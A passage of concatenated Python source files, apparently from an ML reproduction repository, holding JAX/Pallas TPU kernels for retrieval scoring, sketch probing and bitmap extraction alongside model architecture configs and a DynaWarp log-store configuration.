                           block_c: int = DEFAULT_BLOCK_C,
                           interpret: bool = True):
    """corpus (C, D), query (1, D) -> scores (C, 1)."""
    c, d = corpus.shape
    assert c % block_c == 0
    grid = (c // block_c,)
    out = pl.pallas_call(
        _score_kernel,
        grid=grid,
        in_specs=[pl.BlockSpec((block_c, d), lambda i: (i, 0)),
                  pl.BlockSpec((1, d), lambda i: (0, 0))],
        out_specs=pl.BlockSpec((block_c, 1), lambda i: (i, 0)),
        out_shape=jax.ShapeDtypeStruct((c, 1), jnp.float32),
        interpret=interpret,
    )(corpus, query)
    return out
