"""Public wrapper: pad corpus rows, return (scores, top-k)."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_C, retrieval_score_pallas
from .ref import retrieval_score_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def retrieval_scores(corpus, query, *, block_c: int = DEFAULT_BLOCK_C):
    """corpus (C, D), query (D,) -> (C,) scores."""
    c, d = corpus.shape
    block_c = min(block_c, max(8, 1 << (c - 1).bit_length()))
    pad = (-c) % block_c
    if pad:
        corpus = jnp.pad(corpus, ((0, pad), (0, 0)))
    out = retrieval_score_pallas(corpus, query[None].astype(corpus.dtype),
                                 block_c=block_c,
                                 interpret=_interpret())
    return out[:c, 0]


def retrieval_topk(corpus, query, k: int = 100):
    scores = retrieval_scores(corpus, query)
    vals, idx = jax.lax.top_k(scores, k)
    return vals, idx
