"""Oracle for retrieval_score."""
import jax.numpy as jnp


def retrieval_score_ref(corpus, query):
    return (corpus @ query[0]).astype(jnp.float32)
