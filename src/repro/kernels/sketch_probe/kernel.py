"""Pallas TPU kernel: batched DynaWarp immutable-sketch probe (§3.3/§4.2).

The query fast path of the paper — "is this token in the sketch, and
which posting list does it reference" — compiled to a single kernel:

  per query fingerprint fp:
    for each BBHash level l:            (static unroll, usually <= 8)
      pos  = fmix32(fp ^ seed_l) mod m_l
      bit  = words[level_off_l * 32 + pos]
      hit_l = bit & not hit_{<l}
    rank = block_rank[block(gbit)] + popcount(words upto gbit)
    idx  = rank where hit else fallback/absent

All sketch arrays (level bit-vectors, sampled rank directory) stay
resident in VMEM — for production sketch sizes (~1-4 MB per segment,
§6: 1.1% of 2.1 GB segments spread over many structures) a probe batch
streams only the query fingerprints.  Gathers (words[word_idx]) use
jnp.take inside the kernel; on current TPU Pallas this lowers to the
dynamic-gather path (supported for 32-bit element types), and the CPU
container validates the same body in interpret mode.

Grid: one step per query block (block_q fingerprints); the word arrays
are broadcast to every step (index_map -> block 0).
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

from ...core.hashing import _FM32_1, _FM32_2
from ...core.mphf import RANK_BLOCK_WORDS, _level_seed

DEFAULT_BLOCK_Q = 1024


def _fmix32(h):
    h = h ^ (h >> 16)
    h = h * jnp.uint32(_FM32_1)
    h = h ^ (h >> 13)
    h = h * jnp.uint32(_FM32_2)
    return h ^ (h >> 16)


def _probe_kernel(fps_ref, words_ref, rank_ref, out_idx_ref, out_abs_ref,
                  *, level_bits: tuple, level_word_offset: tuple,
                  n_words: int):
    fps = fps_ref[...].astype(jnp.uint32)          # (bq, 1)
    words = words_ref[...]                         # (1, W) uint32
    ranks = rank_ref[...]                          # (1, RB) uint32

    idx = jnp.zeros(fps.shape, jnp.int32)
    found = jnp.zeros(fps.shape, bool)
    for lvl, m in enumerate(level_bits):
        if m == 0:
            continue
        pos = (_fmix32(fps ^ jnp.uint32(_level_seed(lvl)))
               % jnp.uint32(m)).astype(jnp.int32)
        gbit = pos + (level_word_offset[lvl] << 5)
        word = gbit >> 5
        wv = jnp.take(words[0], word[:, 0], axis=0)[:, None]
        hit = ((wv >> (gbit & 31).astype(jnp.uint32)) & 1).astype(bool)
        hit = hit & ~found
        # rank: sampled directory + in-block popcount
        block = word >> 3
        r = jnp.take(ranks[0], block[:, 0], axis=0)[:, None] \
            .astype(jnp.int32)
        base = block << 3
        for j in range(RANK_BLOCK_WORDS):
            wj = jnp.minimum(base + j, n_words - 1)
            wjv = jnp.take(words[0], wj[:, 0], axis=0)[:, None]
            pc = jax.lax.population_count(wjv).astype(jnp.int32)
            pmask = (jnp.uint32(1) << (gbit & 31).astype(jnp.uint32)) \
                - jnp.uint32(1)
            pcp = jax.lax.population_count(wjv & pmask).astype(jnp.int32)
            r = r + jnp.where(base + j < word, pc, 0) \
                + jnp.where(base + j == word, pcp, 0)
        idx = jnp.where(hit, r, idx)
        found = found | hit
    out_idx_ref[...] = idx
    out_abs_ref[...] = (~found).astype(jnp.int32)


@functools.partial(jax.jit,
                   static_argnames=("level_bits", "level_word_offset",
                                    "block_q", "interpret"))
def sketch_probe_pallas(fps, words, block_rank, *, level_bits: tuple,
                        level_word_offset: tuple,
                        block_q: int = DEFAULT_BLOCK_Q,
                        interpret: bool = True):
    """fps (Q,) uint32; words (W,) uint32; block_rank (RB,) uint32.
    Returns (idx (Q,) int32, absent (Q,) int32 in {0,1}).  Fallback keys
    are resolved by ops.py on top (tiny sorted array, searchsorted)."""
    q = fps.shape[0]
    assert q % block_q == 0
    w = words.shape[0]
    rb = block_rank.shape[0]
    grid = (q // block_q,)
    idx, absent = pl.pallas_call(
        functools.partial(_probe_kernel, level_bits=level_bits,
                          level_word_offset=level_word_offset, n_words=w),
        grid=grid,
        in_specs=[
            pl.BlockSpec((block_q, 1), lambda i: (i, 0)),
            pl.BlockSpec((1, w), lambda i: (0, 0)),
            pl.BlockSpec((1, rb), lambda i: (0, 0)),
        ],
        out_specs=[pl.BlockSpec((block_q, 1), lambda i: (i, 0)),
                   pl.BlockSpec((block_q, 1), lambda i: (i, 0))],
        out_shape=[jax.ShapeDtypeStruct((q, 1), jnp.int32),
                   jax.ShapeDtypeStruct((q, 1), jnp.int32)],
        interpret=interpret,
    )(fps[:, None], words[None], block_rank[None])
    return idx[:, 0], absent[:, 0]
