"""Public wrapper: full immutable-sketch probe = Pallas MPHF probe +
(host-tiny) fallback resolution + signature check."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_Q, sketch_probe_pallas
from .ref import sketch_probe_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def mphf_probe(mphf, fps, *, block_q: int = DEFAULT_BLOCK_Q, arrs=None):
    """Batched minimal-perfect-hash probe of a built core.mphf.MPHF.
    Returns (idx int32, absent bool) matching mphf.lookup_jnp.

    ``arrs`` — an ``mphf.device_arrays()`` dict — lets callers reuse
    already-uploaded device buffers (the QueryEngine per-segment cache);
    without it the host arrays are re-wrapped per call."""
    fps = jnp.asarray(fps, jnp.uint32)
    q = fps.shape[0]
    block_q = min(block_q, max(8, 1 << (q - 1).bit_length()))
    pad = (-q) % block_q
    if pad:
        fps = jnp.pad(fps, (0, pad))
    words = arrs["words"] if arrs is not None else jnp.asarray(mphf.words)
    block_rank = (arrs["block_rank"] if arrs is not None
                  else jnp.asarray(mphf.block_rank))
    idx, absent = sketch_probe_pallas(
        fps, words, block_rank,
        level_bits=tuple(int(x) for x in mphf.level_bits),
        level_word_offset=tuple(int(x) for x in mphf.level_word_offset),
        block_q=block_q, interpret=_interpret())
    idx, absent = idx[:q], absent[:q].astype(bool)
    # fallback keys (collided through every level) — tiny sorted array
    if mphf.fallback_fps.size:
        if arrs is not None:
            fb_fps = arrs["fallback_fps"]
            fb_idx = arrs["fallback_idx"]
        else:
            fb_fps = jnp.asarray(mphf.fallback_fps)
            fb_idx = jnp.asarray(mphf.fallback_idx.astype("int32"))
        fpos = jnp.clip(jnp.searchsorted(fb_fps, fps[:q]), 0,
                        fb_fps.shape[0] - 1)
        fhit = (fb_fps[fpos] == fps[:q]) & absent
        idx = jnp.where(fhit, fb_idx[fpos], idx)
        absent = absent & ~fhit
    return idx, absent
