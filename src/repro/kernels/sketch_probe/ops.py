"""Public wrapper: full immutable-sketch probe = Pallas MPHF probe +
(host-tiny) fallback resolution + signature check."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import DEFAULT_BLOCK_Q, sketch_probe_pallas
from .ref import sketch_probe_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def mphf_probe_arrs(fps, arrs, *, level_bits: tuple,
                    level_word_offset: tuple,
                    block_q: int = DEFAULT_BLOCK_Q):
    """Arrs-driven probe: the ONE kernel dispatch path shared by the
    single-device engine and the sharded per-shard probe.  Everything but
    the level layout (static kernel metadata) comes from ``arrs`` — an
    ``mphf.device_arrays()`` dict, possibly a zero-padded row sliced out
    of a stacked per-shard buffer.  Fallback keys (collided through every
    level) resolve against the sorted ``fallback_fps`` array, guarded by
    the dynamic ``fb_count`` so padded/fallback-less rows never match."""
    fps = jnp.asarray(fps, jnp.uint32)
    q = fps.shape[0]
    block_q = min(block_q, max(8, 1 << (q - 1).bit_length()))
    pad = (-q) % block_q
    fps_pad = jnp.pad(fps, (0, pad)) if pad else fps
    idx, absent = sketch_probe_pallas(
        fps_pad, arrs["words"], arrs["block_rank"],
        level_bits=level_bits, level_word_offset=level_word_offset,
        block_q=block_q, interpret=_interpret())
    idx, absent = idx[:q], absent[:q].astype(bool)
    fb_fps, fb_idx = arrs["fallback_fps"], arrs["fallback_idx"]
    fpos = jnp.clip(jnp.searchsorted(fb_fps, fps), 0, fb_fps.shape[0] - 1)
    fhit = (fb_fps[fpos] == fps) & (fpos < arrs["fb_count"]) & absent
    idx = jnp.where(fhit, fb_idx[fpos], idx)
    absent = absent & ~fhit
    return idx, absent


def mphf_probe(mphf, fps, *, block_q: int = DEFAULT_BLOCK_Q, arrs=None):
    """Batched minimal-perfect-hash probe of a built core.mphf.MPHF.
    Returns (idx int32, absent bool) matching mphf.lookup_jnp.

    ``arrs`` — an ``mphf.device_arrays()`` dict — lets callers reuse
    already-uploaded device buffers (the QueryEngine per-segment cache);
    without it the host arrays are re-wrapped per call."""
    if arrs is None:
        arrs = mphf.device_arrays()
    return mphf_probe_arrs(
        fps, arrs,
        level_bits=tuple(int(x) for x in mphf.level_bits),
        level_word_offset=tuple(int(x) for x in mphf.level_word_offset),
        block_q=block_q)
