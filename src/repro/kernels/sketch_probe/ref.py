"""Oracle: the MPHF's own jnp lookup (core/mphf.py)."""


def sketch_probe_ref(mphf, fps):
    idx, absent = mphf.lookup_jnp(fps)
    return idx, absent
