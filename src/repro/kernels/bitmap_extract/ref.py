"""Pure-jnp oracle for bitmap_extract."""
import jax
import jax.numpy as jnp


def bitmap_extract_ref(bitmaps, *, max_hits: int):
    """(Q, W) uint32 hit bitmaps -> ((Q, max_hits) int32 ids, (Q,) counts).

    Row i holds that query's set-bit positions in ascending order, padded
    with -1; bits past ``max_hits`` are dropped.  Two-level rank-select,
    fully vectorized (no scatter/sort/top_k — those all lower to serial
    loops on XLA CPU): a binary search over the per-word popcount prefix
    sum locates each output slot's word in log2(W) gather steps, then a
    5-step prefix-popcount binary search selects the bit lane inside the
    word.  Work scales as Q * max_hits * log(W) — independent of the
    bitmap width's bit count.
    """
    q, w = bitmaps.shape
    pc = jax.lax.population_count(bitmaps).astype(jnp.int32)   # (Q, W)
    cum = jnp.cumsum(pc, axis=1)                               # inclusive
    counts = cum[:, -1]
    slot = jnp.broadcast_to(jnp.arange(max_hits, dtype=jnp.int32),
                            (q, max_hits))
    # binary search: first word with cum > slot
    lo = jnp.zeros((q, max_hits), jnp.int32)
    hi = jnp.full((q, max_hits), w, jnp.int32)
    for _ in range(max(1, (w - 1).bit_length()) + 1):
        mid = (lo + hi) >> 1
        cm = jnp.take_along_axis(cum, jnp.minimum(mid, w - 1), axis=1)
        go_right = (cm <= slot) & (mid < hi)
        lo = jnp.where(go_right, mid + 1, lo)
        hi = jnp.where(go_right, hi, mid)
    word = jnp.minimum(lo, w - 1)
    base = jnp.take_along_axis(cum - pc, word, axis=1)         # bits before
    wv = jnp.take_along_axis(bitmaps, word, axis=1)            # (Q, mh)
    r = slot - base                                            # in-word rank
    # 5-step select of the r-th set bit of wv
    lane = jnp.zeros_like(r)
    for b in (16, 8, 4, 2, 1):
        low = (wv >> lane.astype(jnp.uint32)) \
            & jnp.uint32((1 << b) - 1)
        cnt = jax.lax.population_count(low).astype(jnp.int32)
        up = cnt <= r
        r = r - jnp.where(up, cnt, 0)
        lane = lane + jnp.where(up, b, 0)
    ids = word * 32 + lane
    return jnp.where(slot < counts[:, None], ids, -1), counts
