"""Public wrapper: kernel on TPU, jnp ref elsewhere, -1-masked tails."""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .kernel import bitmap_extract_pallas
from .ref import bitmap_extract_ref  # noqa: F401


def _interpret() -> bool:
    return jax.default_backend() != "tpu"


def bitmap_extract(bitmaps, *, max_hits: int, use_kernel: bool | None = None):
    """(Q, W) uint32 hit bitmaps -> ((Q, max_hits) int32, (Q,) int32).

    Row i holds its bitmap's set-bit positions (ascending), -1-padded;
    hits past ``max_hits`` are dropped (callers size ``max_hits`` from the
    wave's popcounts, so real waves never truncate).  On TPU backends the
    compaction runs through the Pallas kernel; elsewhere the bit-identical
    jnp ref avoids the per-call interpreter tax (the engine's
    ``bitset_kernel`` convention)."""
    bitmaps = jnp.asarray(bitmaps, jnp.uint32)
    if use_kernel is None:
        use_kernel = not _interpret()
    if not use_kernel:
        return bitmap_extract_ref(bitmaps, max_hits=max_hits)
    ids, counts = bitmap_extract_pallas(bitmaps, max_hits=max_hits,
                                        interpret=_interpret())
    ids = ids[:, :max_hits]
    slot = jnp.arange(max_hits, dtype=jnp.int32)
    return jnp.where(slot[None, :] < counts[:, None], ids, -1), counts
