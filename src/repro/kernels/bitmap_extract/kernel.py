"""Pallas TPU kernel: on-device candidate extraction (bitmap -> ids).

The last host-side stage of the device query path was expanding the
combined (Q, W) hit bitmaps into posting ids via ``np.unpackbits`` —
materializing a full (Q, 32*W) bit matrix on the host per wave.  This
kernel compacts each query's bitmap into a padded id list on device, so
only the final (Q, max_hits) int32 tensor crosses to the host.

Per query row (grid over Q): a fori_loop walks the W words carrying the
running hit count.  Each word expands into its 32 bit lanes; the lane
prefix sum gives every set bit its compacted slot, and a (32, 32)
select-matrix (cum-1 == slot, a VPU-friendly substitute for an in-word
scatter) produces the 32 output values, stored at the running offset via
one dynamic-slice store.  Slots past the word's popcount are junk that
the next word's store (or the ops-level count mask) overwrites.

The output ref is ``max_hits + 32`` wide so the final word's full-vector
store never lands out of bounds; ops.py slices the pad off and masks the
tail with -1.
"""
from __future__ import annotations

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl


def _extract_kernel(bm_ref, out_ref, cnt_ref, *, n_words: int,
                    max_hits: int):
    row = bm_ref[...]                                    # (1, W) uint32
    lane = jax.lax.broadcasted_iota(jnp.uint32, (1, 32), 1)
    slot = jax.lax.broadcasted_iota(jnp.int32, (32, 32), 0)

    def body(wi, cnt):
        wv = row[0, wi]
        bits = ((wv >> lane) & jnp.uint32(1)).astype(jnp.int32)  # (1, 32)
        cum = jnp.cumsum(bits, axis=1)                           # inclusive
        ids = (jnp.int32(32) * wi + lane.astype(jnp.int32))      # (1, 32)
        # select[s, l]: lane l is this word's (s+1)-th set bit
        select = ((cum - 1) == slot) & (bits == 1)               # (32, 32)
        vals = jnp.sum(jnp.where(select, ids, 0),
                       axis=1, dtype=jnp.int32)                  # (32,)
        off = jnp.minimum(cnt, max_hits)
        out_ref[0, pl.ds(off, 32)] = vals
        return cnt + jnp.sum(bits)

    cnt = jax.lax.fori_loop(0, n_words, body, jnp.int32(0))
    cnt_ref[0, 0] = cnt


@functools.partial(jax.jit, static_argnames=("max_hits", "interpret"))
def bitmap_extract_pallas(bitmaps, *, max_hits: int, interpret: bool = True):
    """bitmaps (Q, W) uint32 -> (ids (Q, max_hits + 32) int32 with junk
    past each row's count, counts (Q,) int32)."""
    q, w = bitmaps.shape
    ids, counts = pl.pallas_call(
        functools.partial(_extract_kernel, n_words=w, max_hits=max_hits),
        grid=(q,),
        in_specs=[pl.BlockSpec((1, w), lambda i: (i, 0))],
        out_specs=[pl.BlockSpec((1, max_hits + 32), lambda i: (i, 0)),
                   pl.BlockSpec((1, 1), lambda i: (i, 0))],
        out_shape=[jax.ShapeDtypeStruct((q, max_hits + 32), jnp.int32),
                   jax.ShapeDtypeStruct((q, 1), jnp.int32)],
        interpret=interpret,
    )(bitmaps)
    return ids, counts[:, 0]
