"""phi3.5-moe-42b-a6.6b [hf:microsoft/Phi-3.5-MoE-instruct; hf]: 32L
d_model=4096 32H (GQA kv=8) d_ff=6400 vocab=32064, MoE 16 experts top-2.

long_500k skipped: pure full-attention arch (per task instructions)."""
import numpy as np

from ..models.transformer import LMConfig
from .base import ArchSpec, lm_input_specs, lm_shapes

CONFIG = LMConfig(
    name="phi3.5-moe-42b-a6.6b", n_layers=32, d_model=4096, n_heads=32,
    n_kv_heads=8, d_ff=6400, vocab=32064, rope_theta=10000.0,
    n_experts=16, top_k=2, moe_dff=6400, tie_embeddings=False,
    dtype="bfloat16")

SMOKE = LMConfig(
    name="phi35-smoke", n_layers=2, d_model=32, n_heads=4, n_kv_heads=2,
    d_ff=64, vocab=128, n_experts=8, top_k=2, moe_dff=64,
    tie_embeddings=False, dtype="float32",
    q_chunk=16, kv_chunk=16, ce_chunk=16)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    toks = np.asarray(rng.integers(0, cfg.vocab, (2, 32)), np.int32)
    return {"tokens": jnp.asarray(toks),
            "labels": jnp.asarray(np.roll(toks, -1, 1)),
            "mask": jnp.ones((2, 32), jnp.float32)}


SPEC = ArchSpec(
    id="phi3.5-moe-42b-a6.6b", family="lm",
    source="hf:microsoft/Phi-3.5-MoE-instruct; hf",
    config=CONFIG, smoke_config=SMOKE,
    shapes=lm_shapes(n_micro={"train_4k": 4},
                     skip_long="pure full-attention arch: 500k decode cell "
                               "skipped per task instructions"),
    optimizer="adamw", fsdp=True,
    inputs=lm_input_specs, smoke_batch=smoke_batch,
    notes="16 experts top-2; expert dim shards 1 expert/chip at model=16")
