"""sasrec [arXiv:1808.09781; paper]: embed_dim=50 n_blocks=2 n_heads=1
seq_len=50 interaction=self-attn-seq.  Item corpus scaled to 1M rows."""
import numpy as np

from ..models.recsys import SASRecConfig
from .base import ArchSpec, ShapeSpec, recsys_shapes, sds

CONFIG = SASRecConfig(name="sasrec", n_items=1_000_000, embed_dim=50,
                      n_blocks=2, n_heads=1, seq_len=50)

SMOKE = SASRecConfig(name="sasrec-smoke", n_items=512, embed_dim=16,
                     n_blocks=2, n_heads=1, seq_len=10)

SERVE_CANDS = 1024  # ranking-stage candidate count per request


def inputs(cfg, shape):
    d = shape.dims
    L = cfg.seq_len
    if shape.kind == "train":
        return {"seq": sds((d["batch"], L), "int32"),
                "pos": sds((d["batch"], L), "int32"),
                "neg": sds((d["batch"], L), "int32")}
    if shape.kind == "serve":
        return {"seq": sds((d["batch"], L), "int32"),
                "cand": sds((d["batch"], SERVE_CANDS), "int32")}
    if shape.kind == "retrieval":
        return {"seq": sds((1, L), "int32"),
                "cand": sds((d["n_candidates"],), "int32")}
    raise ValueError(shape.kind)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    b, L = 8, cfg.seq_len
    mk = lambda: jnp.asarray(rng.integers(1, cfg.n_items, (b, L)), jnp.int32)
    return {"seq": mk(), "pos": mk(), "neg": mk()}


SPEC = ArchSpec(
    id="sasrec", family="recsys", source="arXiv:1808.09781; paper",
    config=CONFIG, smoke_config=SMOKE, shapes=recsys_shapes(),
    optimizer="adamw",
    inputs=inputs, smoke_batch=smoke_batch,
    notes="sequential self-attention recommender; serve scores 1024 "
          "candidates/request, retrieval scores the 1M-item corpus")
