"""The paper's own configuration: DynaWarp sketch + log-store parameters
(§4/§5 of the paper) — selectable via --arch dynawarp (alias: copr).

These defaults mirror the reference implementation:
  * 4-byte token fingerprints (2^32 hash space, §4.1)
  * short/long posting-list threshold 16, max 2^16 postings per sketch
  * 8 signature bits (false-positive factor 2^-8, §3.3)
  * BBHash gamma 2.0 (construction-speed-optimal per [20])
  * 512-line compressed batches, zstd level 3, 32 MB mutable-sketch
    memory budget before internal segmentation (§4.3, §5.1.1)

Beyond-paper write-path knobs (PR 2, columnar batch ingest).  Like the
paper parameters above, these mirror the ``DynaWarpStore`` constructor
defaults (same names) — the store takes them as constructor arguments,
it does not read this dataclass:
  * ``columnar`` — index whole flush batches through the vectorized
    tokenize -> fingerprint -> sort-based-group pipeline (False restores
    the per-line reference loop)
  * ``compact_fanout`` — size-tiered compaction trigger: whenever this
    many segments/temporaries share a power-of-two size tier they merge
    into one, bounding query fan-out at O(log n) segments (<=1 disables)
  * ``auto_compact`` — run the compactor automatically at ``finish()``
    when the segment count exceeds ``compact_fanout``
  * ``ingest_cache_size`` — bounded LRU of per-unique-line fingerprint
    arrays (duplicate log lines tokenize once)

Beyond-paper read-path knobs (PR 3, sharded device retrieval), also
``DynaWarpStore`` constructor arguments:
  * ``shard_axes`` — ``None`` keeps the single-device ``QueryEngine``;
    a mesh-axis tuple (``('data',)``, or ``('pod', 'data')`` for the
    multi-pod production mesh) routes batched waves through the
    ``ShardedQueryEngine``: whole segments are assigned to mesh shards
    over every visible device, each shard probes its local segments
    via ``shard_map`` with the same Pallas ``sketch_probe``/
    ``bitset_ops`` path, and per-shard partial bitmaps OR together —
    bit-identical to the single-device engine.  Per-shard segment
    buffers upload once and survive compaction rebuilds.
  * ``extract_on_device`` — where hit bitmaps become posting ids.
    ``None``/``True`` (default): on device through the
    ``bitmap_extract`` compaction — only a (Q, max_hits) id tensor
    crosses to host per wave.  ``False``: host-side decode through an
    LRU of flatnonzero-decoded bitmap rows (no ``np.unpackbits`` bit
    matrices on either path).  Lone queries always take the scalar
    host path and never materialize bitmaps at all.

Beyond-paper durability knobs (PR 5, manifest-based segment store),
also ``DynaWarpStore`` constructor arguments:
  * ``path`` — ``None`` (default) keeps blobs + segments in host RAM
    (the seed behaviour).  A directory path makes the store durable:
    compressed batches append to an on-disk blob file as they flush,
    sealed segments publish as single flat files (``core.serial``,
    bitmap planes + sealed posting columns included so merges work
    from disk), and an atomically-swapped ``MANIFEST.json`` (tmp +
    ``os.replace`` — the paper's §4.2 fault-tolerance primitive) names
    the live segment files and blob extents.
    ``DynaWarpStore.open(path)`` recovers the whole store in a fresh
    process, bit-identical on term/contains/batched/sharded queries.
  * ``mmap`` — ``True`` (default): ``open()`` serves segment buffers
    through ``np.memmap`` — only each file's header page is read up
    front; probes page in lazily and the first device wave streams the
    upload straight from the page cache.  ``False``: read segment
    files eagerly into RAM.
  * ``fsync`` — ``False`` (default): publishes are atomic against
    process crashes (rename ordering) but not guaranteed against power
    loss.  ``True``: blob appends, segment files, the manifest, and
    the directory are fsync'd at every publish point.
  * ``background_compact`` — ``False`` (default): ``compact()`` runs
    synchronously (at ``finish()`` under ``auto_compact``, or on
    demand).  ``True``: compaction moves to an opt-in worker thread —
    merges read memmapped sealed sources, publish via the same atomic
    manifest swap, and swap the engine without blocking ingest or
    queries; drain with ``wait_compaction()``, release with
    ``close()``.

Beyond-paper crash-safe live-ingest knobs (PR 6), also
``DynaWarpStore`` constructor arguments:
  * ``publish_per_spill`` — ``True`` (default): a durable segmented
    store swaps its manifest at EVERY spill, not only at ``finish()``.
    A crashed ingest then loses at most the data since the last spill:
    ``DynaWarpStore.open(path)`` of the unfinished directory truncates
    the blob file to the manifested extents, rehydrates the segment
    writer from the manifested sealed sources, and supports
    reopen-for-append (``ingest()`` + an idempotent ``finish()``
    resume where the last publish left off).  Mid-ingest manifests
    carry ``finished: false``.  ``False``: publish only at
    ``finish()`` (the PR 5 behaviour; cheaper spills, larger crash
    window).  Queries during ingest work either way: ``snapshot()``
    captures a point-in-time reader over the published prefix (safe
    from another thread), and direct queries on the writing store take
    an exact host probe over the sealed temporaries + live tail
    buffer.
  * ``compact_retry`` — background-compaction robustness: how many
    times the worker retries a FAILED compaction before surfacing the
    last error at ``wait_compaction()``/``close()`` (3 by default; 0
    disables retries).  Transient I/O errors self-heal instead of
    killing the worker thread or silently dropping the merge.
  * ``compact_backoff_s`` — initial retry backoff in seconds (0.05 by
    default); doubles per retry, capped at 30 s.  The backoff sleeps
    interruptibly so ``close()`` never waits out a pending retry.

Beyond-paper serving knobs (PR 9, wave-coalescing front end).  Unlike
the store knobs above these parameterize ``DynaWarpStore.serving()`` /
``repro.core.serving.WaveScheduler`` (same names), the layer that turns
concurrent client queries into shape-bucketed engine waves:
  * ``serve_replicas`` — engine replicas behind the one wave queue
    (``QueryEngine.clone()`` per extra replica — clones share every
    per-segment device buffer, so a replica costs jit cache entries,
    not segment uploads).  Waves round-robin across replicas, each
    guarded by its own lock, so up to ``min(serve_replicas,
    max_live_waves)`` waves execute truly concurrently.
  * ``max_live_waves`` — admission control: at most this many waves in
    flight at once.  When saturated the dispatcher HOLDS further
    flushes — arrivals keep coalescing into bigger waves — and once
    ``serve_max_pending`` queries queue, ``submit()`` blocks the
    client (backpressure; queries are never dropped).
  * ``flush_deadline_s`` — a coalescing group flushes as a wave when
    its oldest request ages past this deadline (a lone straggler waits
    at most this long) or when it reaches the largest wave bucket,
    whichever comes first.
  * ``wave_bucket_sizes`` — sorted supported Q buckets; a flushed wave
    pads up to the smallest covering bucket (and unpads on
    completion), so steady-state serving hits one jit cache entry per
    bucket instead of one per wave size.  Must mirror the engine's
    power-of-two padding geometry.
  * ``serve_max_pending`` — the backpressure bound above.
  * ``cost_model_path`` — per-bucket dispatch-cost JSON emitted by
    ``benchmarks/query_throughput.py`` (``bench_costmodel.json``);
    loaded via ``repro.core.serving.CostModel.load`` it drives the
    per-wave host-vs-device decision (``n_queries * host_us_per_query
    <= device_us_per_wave[bucket]`` -> scalar host path).  ``None``
    uses built-in placeholder costs.
"""
from dataclasses import dataclass


@dataclass(frozen=True)
class DynaWarpConfig:
    name: str = "dynawarp"
    fingerprint_bytes: int = 4
    sig_bits: int = 8
    short_list_max: int = 16
    max_postings: int = 1 << 16
    bbhash_gamma: float = 2.0
    batch_lines: int = 512
    zstd_level: int = 3
    memory_limit_bytes: int = 32 << 20
    ngrams: bool = True
    # columnar ingest + compaction (logstore.store.DynaWarpStore)
    columnar: bool = True
    compact_fanout: int = 4
    auto_compact: bool = True
    ingest_cache_size: int = 2048
    # sharded device retrieval (logstore.store.DynaWarpStore PR 3)
    shard_axes: tuple | None = None  # e.g. ("data",) / ("pod", "data")
    extract_on_device: bool | None = None
    # durable segment store (logstore.store.DynaWarpStore PR 5)
    path: str | None = None          # store directory; None = host RAM
    mmap: bool = True                # open() serves segments via np.memmap
    fsync: bool = False              # fsync every publish (power-loss safe)
    background_compact: bool = False  # compact on a worker thread
    # crash-safe live ingest (logstore.store.DynaWarpStore PR 6)
    publish_per_spill: bool = True   # manifest swap at every spill
    compact_retry: int = 3           # worker retries before surfacing
    compact_backoff_s: float = 0.05  # initial retry backoff (doubles)
    # wave-coalescing serving front end (core.serving, PR 9)
    serve_replicas: int = 2          # engine replicas behind the queue
    max_live_waves: int = 2          # admission: concurrent waves cap
    flush_deadline_s: float = 0.002  # straggler flush deadline
    wave_bucket_sizes: tuple = (8, 16, 32, 64, 128, 256)
    serve_max_pending: int = 8192    # submit() blocks past this
    cost_model_path: str | None = None   # bench_costmodel.json
    # distributed probe layout (launch/dryrun exercises these)
    segments_axis: str = "data"      # segments shard over data (x pod)
    words_axis: str = "model"        # bitmap words shard over model


CONFIG = DynaWarpConfig()
SMOKE = DynaWarpConfig(name="dynawarp-smoke", batch_lines=32,
                       memory_limit_bytes=1 << 14, compact_fanout=2)
