"""gemma2-9b [arXiv:2408.00118; hf]: 42L d_model=3584 16H (GQA kv=8)
d_ff=14336 vocab=256000 — local(4096)+global alternating attention,
attn-logit softcap 50, final-logit softcap 30, sandwich norms, tied
embeddings, head_dim 256.

long_500k: gemma2 alternates local sliding-window layers with global
layers; its local half is sub-quadratic, and decode with a KV cache is
O(S)/step, so the 524288-token decode cell IS run (cache sequence-sharded
over data x model — context parallelism)."""
import numpy as np

from ..models.transformer import LMConfig
from .base import ArchSpec, lm_input_specs, lm_shapes

CONFIG = LMConfig(
    name="gemma2-9b", n_layers=42, d_model=3584, n_heads=16, n_kv_heads=8,
    d_ff=14336, vocab=256000, d_head=256, rope_theta=10000.0,
    attn_softcap=50.0, final_softcap=30.0, sliding_window=4096,
    local_global_period=2, post_norm=True, tie_embeddings=True,
    embed_scale=True, norm="rms", dtype="bfloat16")

SMOKE = LMConfig(
    name="gemma2-smoke", n_layers=4, d_model=64, n_heads=4, n_kv_heads=2,
    d_ff=128, vocab=512, d_head=16, attn_softcap=50.0, final_softcap=30.0,
    sliding_window=8, local_global_period=2, post_norm=True,
    tie_embeddings=True, embed_scale=True, dtype="float32",
    q_chunk=16, kv_chunk=16, ce_chunk=16)


def smoke_batch(cfg, rng):
    import jax.numpy as jnp
    toks = np.asarray(rng.integers(0, cfg.vocab, (2, 32)), np.int32)
    return {"tokens": jnp.asarray(toks),
            "labels": jnp.asarray(np.roll(toks, -1, 1)),
            "mask": jnp.ones((2, 32), jnp.float32)}


SPEC = ArchSpec(
    id="gemma2-9b", family="lm", source="arXiv:2408.00118; hf",
    config=CONFIG, smoke_config=SMOKE,
    shapes=lm_shapes(n_micro={"train_4k": 4}),
    optimizer="adamw", fsdp=True,
    inputs=lm_input_specs, smoke_batch=smoke_batch,
    notes="local+global alternating, logit softcap; long_500k RUN "
          "(hybrid local/global; decode is O(S)/step with seq-sharded KV)")
