"""meshgraphnet [arXiv:2010.03409; unverified]: n_layers=15 d_hidden=128
aggregator=sum mlp_layers=2.

Four graph regimes (each its own d_feat, padded so the edge axis shards
over pod x data x model = 512):
  full_graph_sm : n_nodes=2708  n_edges=10556->10752   d_feat=1433
